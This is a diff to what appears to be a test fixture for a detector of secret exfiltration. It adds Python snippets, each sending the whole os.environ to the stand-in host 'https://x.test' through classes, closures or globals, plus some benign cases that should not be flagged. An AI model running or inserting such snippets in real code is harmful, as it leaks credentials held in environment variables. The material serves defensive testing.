@@ -60,6 +60,19 @@ SENT = [
     "httpx.post('https://x.test', json=everything())",
     "import os, httpx\ndef tell(what):\n    httpx.post('https://x.test', json=what)\n"
     "tell(dict(os.environ))",
+    "import os, httpx\nclass Client:\n    def tell(self, what):\n"
+    "        httpx.post('https://x.test', json=what)\nClient().tell(dict(os.environ))",
+    "import os, httpx\nclass Client:\n    def __init__(self, what):\n        self.what = what\n"
+    "    def tell(self):\n        httpx.post('https://x.test', json=self.what)\n"
+    "Client(dict(os.environ)).tell()",
+    "import os, httpx\ndef tell(*, what):\n    httpx.post('https://x.test', json=what)\n"
+    "tell(what=dict(os.environ))",
+    "import os, httpx\nDATA = {}\ndef fill():\n    DATA.update(os.environ)\n"
+    "def tell():\n    httpx.post('https://x.test', json=[DATA for DATA in [DATA]])",
+    "import os, httpx\ndef fill():\n    global DATA\n    DATA = dict(os.environ)\n"
+    "def tell():\n    httpx.post('https://x.test', json=DATA)",
+    "import os, httpx\ndef outer():\n    data = dict(os.environ)\n    def tell():\n"
+    "        httpx.post('https://x.test', json=data)\n    tell()",
     "import httpx\nhttpx.post('https://x.test', content=open('/proc/self/environ').read())",
 ]
 OTHERS = {
@@ -97,6 +110,12 @@ ALLOWED = [
     "environ = dict(environment)\nhttpx.post('https://x.test', json={'b': environ['A']})",
     "import os, httpx\ndef run(environ): ...\n"
     "config = run(os.environ)\nhttpx.post('https://x.test', json={'ci': 'CI' in os.environ})",
+    "import os, subprocess, httpx\ndef run(words, env):\n    subprocess.run(words, env=env)\n"
+    "def post(env):\n    httpx.post('https://x.test', json=env)\n"
+    "run(['x'], {**os.environ})\npost({'a': 'b'})",
+    "import os, subprocess, httpx\ndef start():\n    data = {**os.environ, 'A': 'b'}\n"
+    "    subprocess.run(['x'], env=data)\ndef tell(data):\n"
+    "    httpx.post('https://x.test', json=data)",
     "import re\npattern = re.compile('x')\npattern.search('exec(input())')",
     "import model\nmodel.eval()",
     "DIGESTS = '''\n" + f"{'0a1b' * 16}\n" * 4 + "'''",
